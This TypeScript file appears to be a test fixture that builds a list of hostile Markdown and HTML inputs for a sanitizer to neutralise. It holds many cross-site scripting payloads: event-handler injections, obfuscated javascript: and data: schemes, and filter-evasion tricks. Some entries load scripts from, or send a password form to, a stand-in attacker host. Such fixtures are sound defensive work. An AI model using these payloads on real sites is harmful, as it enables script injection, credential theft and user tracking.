// Markdown and HTML that tries to run, to load from elsewhere or to look like a part of the page.

const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onpointerenter', 'onanimationstart',
  'ontransitionend', 'onbeforetoggle', 'onscroll', 'onwheel', 'oncopy', 'onpaste', 'onkeydown', 'onsubmit', 'onbegin',
]
const TAGS = [
  'script', 'img', 'svg', 'math', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'track', 'link', 'meta', 'base',
  'style', 'form', 'input', 'button', 'textarea', 'select', 'body', 'html', 'head', 'frame', 'frameset', 'applet', 'marquee',
  'details', 'dialog', 'template', 'noscript', 'xmp', 'plaintext', 'title', 'isindex', 'keygen', 'portal', 'picture', 'slot',
  'custom-element', 'animate', 'set', 'foreignObject', 'use', 'a', 'div', 'p', 'table', 'td', 'b',
]
const SCHEMES = [
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'jAvAsCrIpT:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '\u0001javascript:alert(1)', ' javascript:alert(1)',
  'javascript\u200b:alert(1)', 'javascript://example.org/%0aalert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'DATA:text/html,x', 'data:image/svg+xml,<svg/onload=alert(1)>',
  'vbscript:msgbox(1)', 'VBScript:x', 'livescript:x', 'mocha:x', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)',
  'blob:https://evil.example/x', 'file:///etc/passwd', 'ftp://evil.example', 'jar:x', 'about:blank', 'ws://evil.example',
  'callto:1', 'sms:1', 'cid:1', 'xmpp:a@b', 'intent://x', 'filesystem:x', 'chrome://x', 'ms-word:ofe|u|x', 'x-y:alert(1)',
]

const WRAPS: ((scheme: string) => string)[] = [
  (scheme) => `[click](${scheme})`,
  (scheme) => `[click](<${scheme}>)`,
  (scheme) => `![picture](${scheme})`,
  (scheme) => `<${scheme}>`,
  (scheme) => `[click][x]\n\n[x]: ${scheme}`,
]

const OTHERS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>', '<<script>alert(1)//<</script>', '</script><script>alert(1)</script>', '<script',
  '<img src=x onerror=alert(1)//', '<img/src="x"/onerror="alert(1)">', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>', '<a target=_blank href=//evil.example>x</a>', '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example/x)">x</p>', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<form action="//evil.example"><input name=password></form>',
  '<object data="//evil.example/x.swf"></object>', '<link rel=stylesheet href=//evil.example/x.css>', '<div id=content class=site-header>x</div>',
  '![x](https://evil.example/pixel.png)', '![x](//evil.example/pixel.png)', '![x](https://evil.example/x.png "onerror=alert(1)")',
  '![x][p]\n\n[p]: https://evil.example/pixel.png', '[![x](https://evil.example/pixel.png)](https://evil.example)',
  '[x](https://example.org "title\\" onmouseover=alert(1) \\"")', '[x](https://example.org" onmouseover="alert(1))',
  '[x](https://example.org/<script>alert(1)</script>)', '[<script>alert(1)</script>](https://example.org)',
  '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```', '```<script>\nx\n```', '``` "onload=alert(1)\nx\n```',
  '    <script>alert(1)</script>', '# <script>alert(1)</script>', '> <script>alert(1)</script>', '- <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '[^1]\n\n[^1]: <script>alert(1)</script>', '[^<script>]\n\n[^<script>]: x', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script>alert(1)\\</script>', '<scr\u0131pt>alert(1)</scr\u0131pt>',
  '＜script＞alert(1)＜/script＞', '<a href="https://example.org" onclick="alert(1)">x</a>', '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)', 'www.evil.example/"onmouseover=alert(1)', '- [ ] <script>alert(1)</script>',
  '[2](#source-2" onclick="alert(1))', '[x](#source-1\'onclick=alert(1))', '[<img src=x onerror=alert(1)>](#source-1)',
  '<x onclick=alert(1)>\n\ntext\n\n</x>', '*<b onmouseover=alert(1)>x</b>*', '<a\nhref=javascript:alert(1)\n>x</a>',
  '[x](javascript&#0000058alert(1))', '[x](JaVa\u00adScript:alert(1))', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', '<select><noembed></select><script>alert(1)</script>',
  '<p is="x-evil">x</p>', '<input autofocus onfocus=alert(1)>', '<video src=//evil.example/x poster=//evil.example/y>',
  '<body background=//evil.example/x>', '<table background=//evil.example/x><tr><td>x</table>', '<a ping=//evil.example href=/>x</a>',
  '<div popover id=p>x</div>', '<button formaction=javascript:alert(1)>x</button>', '<img srcset="//evil.example/x 2x">',
]

export const HOSTILE: string[] = [
  ...TAGS.flatMap((tag, index) => [
    `<${tag} src=//evil.example/x ${EVENTS[index % EVENTS.length]}=alert(1)>x</${tag}>`,
    `text <${tag} style="background:url(//evil.example)" data-x=1 id=top class=banner>x</${tag}> text`,
  ]),
  ...EVENTS.map((event) => `<p ${event}="alert(1)" ${event.toUpperCase()}=alert(1)>x</p>`),
  ...SCHEMES.flatMap((scheme) => WRAPS.map((wrap) => wrap(scheme))),
  ...OTHERS,
]
